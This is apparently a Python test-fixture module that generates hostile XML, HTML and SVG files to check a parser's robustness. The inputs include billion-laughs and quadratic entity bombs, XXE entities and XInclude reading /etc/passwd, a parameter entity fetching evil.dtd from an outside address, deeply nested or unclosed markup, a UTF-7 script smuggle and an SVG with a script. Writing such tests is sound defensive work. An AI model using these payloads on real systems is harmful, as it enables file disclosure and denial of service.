"""HTML, XML and SVG: entities that laugh, nests, unclosed things."""

from collections.abc import Iterator

from tests.hostile.file import File, either, ready
from tests.hostile.good import WORDS

LAUGHS = (
    '<!DOCTYPE r [<!ENTITY l0 "ha">' + "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10)) + "]>"
)
QUADRATIC = f'<!DOCTYPE r [<!ENTITY q "{"a" * 50_000}">]>'
OUTSIDE = '<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd"><!ENTITY y SYSTEM "http://192.0.2.1/x">]>'
DECLARED = '<?xml version="1.0"?>'


def files() -> Iterator[File]:
    yield from entities()
    yield from xml_shapes()
    yield from pages()
    yield from drawings()


def entities() -> Iterator[File]:
    def xml(before: str, inside: str) -> bytes:
        return f"{DECLARED}{before}<r><p>{WORDS}</p><p>{inside}</p></r>".encode()

    parameters = '<!DOCTYPE r [<!ENTITY % a SYSTEM "http://192.0.2.1/evil.dtd"> %a; '
    parameters += "<!ENTITY % b \"<!ENTITY c SYSTEM 'file:///etc/passwd'>\"> %b;]>"
    yield either("xml-laughs.xml", lambda: xml(LAUGHS, "&l9;"))
    yield either("xml-quadratic.xml", lambda: xml(QUADRATIC, "&q;" * 30_000))
    yield either("xml-outside-entity.xml", lambda: xml(OUTSIDE, "&x; &y;"))
    yield either("xml-parameter-entities.xml", lambda: xml(parameters, "&c;"))
    yield either("xml-entity-loop.xml", lambda: xml('<!DOCTYPE r [<!ENTITY a "&b;"><!ENTITY b "&a;">]>', "&a;"))
    yield either("xml-outside-rules.xml", lambda: xml('<!DOCTYPE r SYSTEM "file:///dev/zero">', "a"))
    yield either(
        "xml-includes.xml",
        lambda: xml("", '<x:include xmlns:x="http://www.w3.org/2001/XInclude" href="/etc/passwd" parse="text"/>'),
    )
    yield either(
        "xml-stylesheet.xml", lambda: xml('<?xml-stylesheet type="text/xsl" href="http://192.0.2.1/x.xsl"?>', "a")
    )


def xml_shapes() -> Iterator[File]:
    attributes = " ".join(f'a{n}="b"' for n in range(30_000))
    yield either("xml-300000-deep.xml", lambda: DECLARED + "<a>" * 300_000 + WORDS + "</a>" * 300_000)
    yield either("xml-100000-deep-and-open.xml", lambda: DECLARED + "<a>" * 100_000 + WORDS)
    yield either("xml-30000-attributes.xml", lambda: f"{DECLARED}<r {attributes}>{WORDS}</r>")
    yield either("xml-endless-name.xml", lambda: f"{DECLARED}<{'n' * 200_000}>{WORDS}")
    yield either("xml-cdata-without-an-end.xml", lambda: f"{DECLARED}<r>{WORDS}<![CDATA[{'<' * 200_000}")
    yield either("xml-says-utf-16.xml", lambda: f'<?xml version="1.0" encoding="UTF-16"?><r>{WORDS}</r>')
    yield either("xml-says-nonsense.xml", lambda: f'<?xml version="1.0" encoding="../../x"?><r>{WORDS}</r>')
    yield either("xml-in-utf-16.xml", lambda: f'<?xml version="1.0" encoding="UTF-16"?><r>{WORDS}</r>'.encode("utf-16"))
    yield either(
        "xml-namespaces.xml",
        (DECLARED + "".join(f'<n{n}:a xmlns:n{n}="urn:{n}">' for n in range(5_000)) + WORDS).encode,
    )


def pages() -> Iterator[File]:
    def page(body: str) -> bytes:
        return f"<!doctype html><title>Water</title><p>{WORDS}</p>{body}".encode()

    yield ready("html-300000-tags-deep.html", lambda: page("<div>" * 300_000 + "turbine"))
    yield ready("html-100000-letters-of-bold.html", lambda: page("<b><i>" * 50_000 + "turbine"))
    yield ready("html-misnested.html", lambda: page("<b><p><i><a href=x><table><b>" * 3_000 + "turbine"))
    yield ready("html-tables-in-tables.html", lambda: page("<table><tr><td>" * 20_000 + "turbine"))
    yield ready("html-lists-in-lists.html", lambda: page("<ul><li>" * 50_000 + "turbine"))
    yield ready("html-comments-without-an-end.html", lambda: page("<!--" * 100_000))
    yield ready("html-only-less-than.html", lambda: page("<" * 300_000))
    yield ready("html-one-long-attribute.html", lambda: page(f'<a title="{"x" * 300_000}">turbine</a>'))
    yield ready("html-attribute-without-an-end.html", lambda: page('<a href="' + "<p>turbine " * 30_000))
    yield ready(
        "html-30000-attributes.html", lambda: page("<a " + " ".join(f"a{n}=b" for n in range(30_000)) + ">turbine</a>")
    )
    yield ready("html-50000-entities.html", lambda: page("&amp;&lt;&#x202e;&#0;&#xD800;&#99999999;&nonsense;" * 7_000))
    yield ready("html-100000-cells.html", lambda: page("<table><tr>" + "<td>a" * 100_000))
    yield ready(
        "html-claims-a-million-columns.html",
        lambda: page('<table><tr><td colspan="1000000000" rowspan="1000000000">turbine</table>'),
    )
    yield ready("html-script-without-an-end.html", lambda: page("<script>" + "if (a < b && c) {}" * 10_000))
    yield either("html-only-a-script.html", lambda: b"<html><script>document.write('turbine')</script></html>")
    yield ready(
        "html-says-nonsense.html",
        lambda: page('<meta charset="x-user-defined-evil">').replace(b"<title>", b'<meta charset="rot13"><title>'),
    )
    yield ready("html-says-base64.html", lambda: page("").replace(b"<title>", b'<meta charset="base64"><title>'))
    yield ready(
        "html-utf-7.html", lambda: page("+ADw-script+AD4-").replace(b"<title>", b'<meta charset="utf-7"><title>')
    )
    yield ready("html-templates-in-templates.html", lambda: page("<template>" * 20_000 + "turbine"))
    yield ready("html-svg-and-math.html", lambda: page("<svg><math><mtext><table>" * 5_000 + "turbine"))
    yield ready("html-selects-and-forms.html", lambda: page("<form><select><option>" * 20_000 + "turbine"))
    yield either("html-frames-of-itself.html", lambda: page("<iframe src='#'>" * 10_000))


def drawings() -> Iterator[File]:
    svg = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" %s><text>turbine</text>%s</svg>'
    uses = "".join(f'<g id="g{n}">{f"<use xlink:href={chr(34)}#g{n - 1}{chr(34)}/>" * 10}</g>' for n in range(1, 12))
    yield either(
        "svg-laughs.svg",
        (DECLARED + LAUGHS.replace("DOCTYPE r", "DOCTYPE svg") + svg % ("", "<text>&l9;</text>")).encode,
    )
    yield either("svg-uses-of-uses.svg", lambda: svg % ("", '<g id="g0"/>' + uses))
    yield either("svg-as-large-as-a-country.svg", lambda: svg % ('width="1e12" height="1e12"', ""))
    yield either(
        "svg-reaches-outside.svg",
        (svg % ("", '<image xlink:href="file:///etc/passwd"/><script>alert(1)</script>')).encode,
    )
